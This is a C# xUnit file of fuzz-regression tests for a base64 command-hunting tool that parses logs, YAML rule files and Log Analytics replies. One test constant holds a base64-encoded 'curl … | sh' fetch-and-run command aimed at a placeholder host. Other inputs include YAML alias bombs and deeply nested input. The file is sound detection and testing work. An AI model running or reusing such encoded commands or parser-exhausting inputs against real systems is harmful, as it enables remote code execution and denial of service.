using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text;
using System.Threading;
using B64Hunt.Classification;
using B64Hunt.Configuration;
using B64Hunt.Errors;
using B64Hunt.GtfoBins;
using B64Hunt.LogAnalytics;
using B64Hunt.Model;
using B64Hunt.Reports;
using B64Hunt.Scoring;
using B64Hunt.Sources;
using Xunit;

namespace B64Hunt.Tests.Fuzz
{
    /// <summary>The specific inputs the fuzzer found bugs with, kept as plain regression tests.</summary>
    public sealed class FuzzRegressionTests
    {
        private const string Good1 = "echo aGVsbG8gd29ybGQ= | base64 -d";
        private const string Good2 = "echo Y3VybCBodHRwOi8vMTAuMC4wLjEveC5zaCB8IHNo | base64 -d | sh";

        private static (List<CommandRecord> Records, List<Problem> Problems) Read(byte[] content, string name)
        {
            var records = new List<CommandRecord>();
            var problems = new ProblemList();
            using var stream = new MemoryStream(content);
            foreach (var item in LogFileReader.Read(stream, name, new LogReadOptions(), new ReadStatistics(), CancellationToken.None))
            {
                if (item.Record != null) records.Add(item.Record);
                else problems.Add(item.Problem!);
            }
            return (records, problems);
        }

        /// <summary>Bytes of <paramref name="text"/> with every '~' replaced by the invalid UTF-8 byte 0xFF.</summary>
        private static byte[] WithInvalidUtf8(string text) =>
            Encoding.UTF8.GetBytes(text).SelectMany(b => b == (byte)'~' ? new byte[] { 0xFF } : new[] { b }).ToArray();

        [Fact]
        public void JsonLinesInvalidUtf8InOneLineDoesNotEndTheFile()
        {
            // Found by jsonl-good-bad: GetString threw InvalidOperationException, the file ended with FileReadError.
            var content = WithInvalidUtf8(
                "{\"CommandLine\":\"" + Good1 + "\"}\n" +
                "{\"CommandLine\":\"bad ~ text\"}\n" +
                "{\"Comm~andLine\":\"x\"}\n" +
                "{\"CommandLine\":\"" + Good2 + "\"}\n");
            var (records, problems) = Read(content, "rows.jsonl");
            Assert.Equal(new[] { Good1, Good2 }, records.Select(r => r.CommandLine));
            Assert.Equal(new[] { "rows.jsonl:1", "rows.jsonl:4" }, records.Select(r => r.Source));
            Assert.Equal(new[] { ErrorIds.MalformedJson, ErrorIds.MalformedJson }, problems.Select(p => p.ErrorId));
            Assert.Equal(new object[] { "rows.jsonl:2", "rows.jsonl:3" }, problems.Select(p => p.Target));
        }

        [Fact]
        public void JsonArrayInvalidUtf8InOneElementDoesNotEndTheFile()
        {
            var content = WithInvalidUtf8(
                "[\n{\"CommandLine\":\"" + Good1 + "\"},\n" +
                "{\"CommandLine\":\"bad ~ text\"},\n" +
                "{\"CommandLine\":\"" + Good2 + "\"}\n]\n");
            var (records, problems) = Read(content, "rows.json");
            Assert.Equal(new[] { Good1, Good2 }, records.Select(r => r.CommandLine));
            var problem = Assert.Single(problems);
            Assert.Equal(ErrorIds.MalformedJson, problem.ErrorId);
            Assert.Equal("rows.json:3", problem.Target);
        }

        [Fact]
        public void LogAnalyticsRowWithInvalidUtf8CellDoesNotEndTheFile()
        {
            var content = WithInvalidUtf8(
                "{\"tables\":[{\"name\":\"PrimaryResult\",\"columns\":[{\"name\":\"Computer\",\"type\":\"string\"},{\"name\":\"CommandLine\",\"type\":\"string\"}],\"rows\":[\n" +
                "[\"h1\",\"" + Good1 + "\"],\n" +
                "[\"h~2\",\"bad\"],\n" +
                "[\"h3\",\"" + Good2 + "\"]\n]}]}\n");
            var (records, problems) = Read(content, "la.json");
            Assert.Equal(new[] { Good1, Good2 }, records.Select(r => r.CommandLine));
            var problem = Assert.Single(problems);
            Assert.Equal(ErrorIds.MalformedJson, problem.ErrorId);
            Assert.Equal("la.json:3", problem.Target);
        }
            private static TimelineLayout LayoutAt(params System.DateTime[] times)
        {
            var events = times.Select((t, i) => new CommandEvent { DecodedCommand = "id " + i, Computer = "h" + i, TimeGenerated = t }).ToList();
            return TimelineLayout.Build(CommandScorer.Score(events).Scores, null, 0);
        }

        [Fact]
        public void TimelineOfOneInstantAtTheEndsOfTimeRenders()
        {
            // Found by score-render: a single time at DateTime.MaxValue (or MinValue) threw while widening the window.
            foreach (var t in new[] { System.DateTime.MaxValue, System.DateTime.MinValue })
            {
                var layout = LayoutAt(t);
                Assert.True(layout.End > layout.Start);
                Assert.Contains("<svg", HtmlReportRenderer.Render(layout));
                Assert.NotEmpty(ConsoleTimelineRenderer.Render(layout).ToList());
            }
        }

        [Fact]
        public void TimelineSpanningAllOfTimeRendersItsTicks()
        {
            // Found by score-render: the tick times multiplied a span of ~3e18 ticks by k and overflowed.
            var layout = LayoutAt(System.DateTime.MinValue, System.DateTime.MaxValue);
            string html = HtmlReportRenderer.Render(layout);
            Assert.Contains("01-01 00:00", html);
            Assert.Contains("12-31 23:59", html);
            Assert.NotEmpty(ConsoleTimelineRenderer.Render(layout).ToList());
        }
            [Fact]
        public void OneLineCutToOneCharacterIsTheEllipsis()
        {
            // Found by score-render (ConsoleTimelineOptions.CommandWidth = 1): the cut read sb[-1].
            Assert.Equal("…", DisplayText.OneLine("whoami", 1));
            Assert.Equal("w…", DisplayText.OneLine("whoami", 2));
            Assert.Equal("…", DisplayText.OneLine("\uD83D\uDE00abc", 2));
        }
            // Found by category-yaml: YamlDotNet ends an unterminated flow sequence with InvalidOperationException.
        private const string UnterminatedFlow = ": [\nr";

        // Found by config-yaml (seed 3): YamlDotNet ends an empty-key mapping with ArgumentException.
        private const string EmptyKeyMapping = ":\n :";

        [Theory]
        [InlineData(UnterminatedFlow)]
        [InlineData(EmptyKeyMapping)]
        public void MalformedYamlInARuleFileIsInvalidCategoryRuleFile(string yaml)
        {
            var ex = Assert.Throws<CategoryRuleFileException>(() => CategoryRuleSet.Parse(yaml, "rules.yaml"));
            Assert.Equal("InvalidCategoryRuleFile", ErrorIds.InvalidCategoryRuleFile);
            Assert.Equal("rules.yaml", ex.File);
            Assert.True(ex.Line >= 1 && ex.Column >= 1);
            Assert.Contains("rules.yaml", ex.Message);
        }

        [Theory]
        [InlineData(UnterminatedFlow)]
        [InlineData(EmptyKeyMapping)]
        public void MalformedYamlInAConfigFileIsInvalidConfigFile(string yaml)
        {
            var env = ConfigEnvironment.FromDictionary(new Dictionary<string, string>(), "/home/u", "/home/u");
            var ex = Assert.Throws<ConfigFileException>(() => ConfigLoader.Parse(yaml, "config.yaml", env));
            Assert.Equal("config.yaml", ex.FilePath);
            Assert.True(ex.Line >= 1 && ex.Column >= 1);
        }

        [Theory]
        [InlineData(UnterminatedFlow)]
        [InlineData(EmptyKeyMapping)]
        public void MalformedYamlInAGtfoBinsFileSkipsOnlyThatFile(string yaml)
        {
            string dir = Path.Combine(Path.GetTempPath(), "b64hunt-gtfo-regression-" + System.Guid.NewGuid().ToString("N"));
            Directory.CreateDirectory(Path.Combine(dir, "bins"));
            try
            {
                File.WriteAllText(Path.Combine(dir, "bins", "broken"), yaml);
                File.WriteAllText(Path.Combine(dir, "bins", "curl"), "functions:\n  download:\n  - code: curl http://x -o y\n");
                var problems = new ProblemList();
                var index = GtfoBinsIndexBuilder.Load(dir, problems);
                var problem = Assert.Single(problems);
                Assert.Equal(ErrorIds.InvalidGtfoBinsEntry, problem.ErrorId);
                Assert.Equal(Path.Combine(dir, "bins", "broken"), problem.Target);
                Assert.Contains(index.Entries, e => e.Name == "curl");
            }
            finally
            {
                Directory.Delete(dir, true);
            }
        }
            [Fact]
        public void LogAnalyticsErrorBodyWithInvalidUtf8OrHugeNumbersIsReadOrIgnoredNeverThrown()
        {
            // Found by la-response: TryReadErrorBody ran on every failed request and threw InvalidOperationException
            // (a message that is not UTF-8) or FormatException ("line": 1e99) out of QueryAsync instead of the mapped error.
            var invalid = WithInvalidUtf8("{\"error\":{\"code\":\"BadArgumentError\",\"message\":\"bad ~ text\"}}");
            Assert.Null(QueryResponseReader.TryReadErrorBody(new MemoryStream(invalid)));
            var huge = Encoding.UTF8.GetBytes("{\"error\":{\"code\":\"BadArgumentError\",\"message\":\"m\",\"innererror\":{\"code\":\"SYN0002\",\"line\":1e99,\"pos\":99999999999}}}");
            var error = QueryResponseReader.TryReadErrorBody(new MemoryStream(huge));
            Assert.NotNull(error);
            Assert.Equal("BadArgumentError", error!.Code);
        }
            // Found by huge-nesting: "[[[[..." 16,000+ deep overflowed the stack in YamlStream.Load and killed the process.
        private static readonly string DeepYaml = "rules: " + new string('[', 50_000);

        // Found by gtfobins-yaml: an aliased collection used as a mapping key is hashed node by node (exponential work).
        private static readonly string KeyBomb = Mutator.AliasBomb(9) + "? *a8\n: x\n";

        [Fact]
        public void DeepOrAliasBombRuleFilesAreInvalidCategoryRuleFile()
        {
            foreach (var yaml in new[] { DeepYaml, KeyBomb })
            {
                var ex = Assert.Throws<CategoryRuleFileException>(() => CategoryRuleSet.Parse(yaml, "rules.yaml"));
                Assert.True(ex.Line >= 1 && ex.Column >= 1);
                Assert.Matches("nests deeper than 128|expand to more than 1,000,000 nodes", ex.Message);
            }
        }

        [Fact]
        public void DeepOrAliasBombConfigFilesAreInvalidConfigFile()
        {
            var env = ConfigEnvironment.FromDictionary(new Dictionary<string, string>(), "/home/u", "/home/u");
            foreach (var yaml in new[] { DeepYaml.Replace("rules", "TIProviders"), KeyBomb })
            {
                var ex = Assert.Throws<ConfigFileException>(() => ConfigLoader.Parse(yaml, "config.yaml", env));
                Assert.True(ex.Line >= 1 && ex.Column >= 1);
            }
        }

        [Fact]
        public void DeepOrAliasBombGtfoBinsFilesAreSkippedWithAProblem()
        {
            string dir = Path.Combine(Path.GetTempPath(), "b64hunt-gtfo-regression-" + System.Guid.NewGuid().ToString("N"));
            Directory.CreateDirectory(Path.Combine(dir, "bins"));
            try
            {
                File.WriteAllText(Path.Combine(dir, "bins", "deep"), DeepYaml);
                File.WriteAllText(Path.Combine(dir, "bins", "bomb"), KeyBomb);
                File.WriteAllText(Path.Combine(dir, "bins", "curl"), "functions:\n  download:\n  - code: curl http://x -o y\n");
                File.WriteAllText(Path.Combine(dir, "functions.yml"), KeyBomb);
                var problems = new ProblemList();
                var index = GtfoBinsIndexBuilder.Load(dir, problems);
                Assert.Equal(new object[] { Path.Combine(dir, "bins", "bomb"), Path.Combine(dir, "bins", "deep"), Path.Combine(dir, "functions.yml") },
                    problems.Select(p => p.Target).OrderBy(t => (string)t!, System.StringComparer.Ordinal));
                Assert.All(problems, p => Assert.Equal(ErrorIds.InvalidGtfoBinsEntry, p.ErrorId));
                Assert.Contains(index.Entries, e => e.Name == "curl");
            }
            finally
            {
                Directory.Delete(dir, true);
            }
        }

        [Fact]
        public void OrdinaryAnchorsAndAliasesStillLoad()
        {
            var set = CategoryRuleSet.Parse("rules:\n  - id: a\n    category: C\n    commands: &tools [curl, wget]\n  - id: b\n    category: D\n    commands: *tools\n", "rules.yaml");
            Assert.Equal(2, set.Rules.Count);
        }
            [Fact]
        public void CorruptGzipAlertFileIsSecurityAlertFileUnreadable()
        {
            // Found by alert-file: InvalidDataException escaped Get-B64RelatedAlert's IOException/FormatException catches; now the reader reports it.
            string path = Path.Combine(Path.GetTempPath(), "b64hunt-alerts-" + System.Guid.NewGuid().ToString("N") + ".csv.gz");
            File.WriteAllBytes(path, new byte[] { 0x1F, 0x8B, 0x08, 0x00, 0, 0, 0, 0, 0, 0x03, 0xFF, 0xFF, 0xFF, 0xFF, 0x00 });
            try
            {
                var problems = new ProblemList();
                Assert.Empty(SecurityAlertFileReader.Read(path, problems));
                var problem = Assert.Single(problems);
                Assert.Equal(ErrorIds.SecurityAlertFileUnreadable, problem.ErrorId);
                Assert.IsType<InvalidDataException>(problem.Exception);
                Assert.Contains(Path.GetFileName(path), problem.Message);
            }
            finally
            {
                File.Delete(path);
            }
        }
            [Fact]
        public void LogAnalyticsAnswerCutShortIsConnectionFailed()
        {
            // Found by http-faults: a body shorter than its Content-Length threw HttpIOException out of QueryAsync.
            var answer = Encoding.ASCII.GetBytes("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 500\r\nConnection: close\r\n\r\n{\"tables\":[");
            using var server = new RawHttpFaultServer(() => answer);
            var connection = new LogAnalyticsConnection { Endpoint = server.Endpoint };
            connection.SetAccessToken("tok-SECRET-regression");
            var client = new LogAnalyticsQueryClient(connection, null, (wait, _) => System.Threading.Tasks.Task.CompletedTask);
            var ex = Assert.Throws<LogAnalyticsException>(() => client.QueryAsync(System.Guid.NewGuid(), "Syslog | take 1", null, null, CancellationToken.None).GetAwaiter().GetResult());
            Assert.Equal(ErrorIds.LogAnalyticsConnectionFailed, ex.ErrorId);
            Assert.DoesNotContain("tok-SECRET-regression", ex.ToString());
        }
            [Theory]
        [InlineData("TIProviders:\n  ? {a: 1}\n  : {}\n")]
        [InlineData("Scoring:\n  Weights:\n    ? [High]\n    : 4\n")]
        [InlineData("TIProviders:\n  OTX:\n    Args:\n      ? [AuthKey]\n      : k\n")]
        public void ComplexKeyInAConfigFileIsInvalidConfigFile(string yaml)
        {
            // Found by config-yaml (seed 27): a mapping used as a key threw InvalidCastException.
            var env = ConfigEnvironment.FromDictionary(new Dictionary<string, string>(), "/home/u", "/home/u");
            var ex = Assert.Throws<ConfigFileException>(() => ConfigLoader.Parse(yaml, "config.yaml", env));
            Assert.True(ex.Line >= 2 && ex.Column >= 1);
            Assert.Contains("not a list or mapping", ex.Message);
        }
            [Fact]
        public void SyslogDayZeroDoesNotEndTheFile()
        {
            // Found by auoms-good-bad (seed 36): "Oct  0" made new DateTime throw, and FileReadError ended the file.
            string Line(string date, string cmd) =>
                date + " 10:15:01 web-01 auoms[811]: type=AUOMS_EXECVE audit(1759486500.001:1): SchemaVersion=\"1\" arch=x86_64 syscall=execve success=yes exit=0 ppid=1 pid=2 audit_user=alice auid=1000 user=alice uid=1000 comm=\"bash\" exe=\"/usr/bin/bash\" argc=3 cmdline=\"" + cmd + "\" redactors= containerid=";
            var content = Encoding.UTF8.GetBytes(Line("Oct  3", Good1) + "\n" + Line("Oct  0", "echo zero") + "\n" + Line("Oct 03", Good2) + "\n");
            var (records, problems) = Read(content, "day0.log");
            Assert.Empty(problems);
            Assert.Equal(new[] { Good1, "echo zero", Good2 }, records.Select(r => r.CommandLine));
            // Without a usable syslog date the record keeps the audit(...) timestamp.
            Assert.Equal(System.DateTimeOffset.FromUnixTimeMilliseconds(1759486500001).UtcDateTime, records[1].TimeGenerated);
        }
    }
}
